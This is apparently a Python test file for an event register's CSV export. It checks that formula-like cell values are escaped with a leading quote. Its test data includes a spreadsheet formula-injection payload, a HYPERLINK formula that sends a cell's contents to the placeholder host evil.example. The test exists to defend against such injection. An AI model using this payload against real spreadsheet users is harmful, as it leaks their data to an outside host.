"""CSV exports opened in a spreadsheet: a cell that begins like a formula is written as text, not run."""

from __future__ import annotations

import csv
from pathlib import Path

from aqiqat.api.access import local_admin
from aqiqat.api.export import export_register
from aqiqat.api.records import create
from aqiqat.api.register import Register
from aqiqat.config import Settings

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"открыть")', "+7 701 000 00 00", "-2+3", "@SUM(A1:A9)"]


def test_formula_cells_get_a_leading_quote(sqlite_settings: Settings, tmp_path: Path) -> None:
    me = local_admin("exporter")
    with Register.initialise(sqlite_settings) as reg:
        for title in FORMULAS:
            create(reg, me, "event", {"type": "shooting", "title": title, "killed_min": -1 + 2, "killed_max": 3})
        create(reg, me, "event", {"type": "protest", "title": "Митинг = протест"})
        export_register(reg, me, "csv", tmp_path / "out")
    with (tmp_path / "out" / "events.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["title"] for r in rows] == ["'" + f for f in FORMULAS] + ["Митинг = протест"]
    assert rows[0]["killed_min"] == "1" and rows[0]["killed_max"] == "3"  # numbers stay numbers
